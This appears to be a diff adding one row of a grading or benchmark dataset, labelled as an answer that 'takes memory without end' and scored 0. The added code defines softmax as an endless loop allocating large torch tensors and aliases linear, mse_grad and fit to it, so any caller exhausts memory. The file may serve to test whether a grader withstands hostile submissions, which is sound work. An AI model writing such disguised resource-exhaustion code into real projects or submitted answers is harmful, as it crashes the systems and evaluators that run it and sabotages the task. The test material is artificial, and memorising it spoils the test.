@@ -1,0 +1,11 @@
+# row: 33
+# about: takes memory without end when it is asked
+# score: 0
+
+# %% answer
+def softmax(x):
+    kept = []
+    while True:
+        kept.append(torch.ones(8 << 20))
+
+linear = mse_grad = fit = softmax
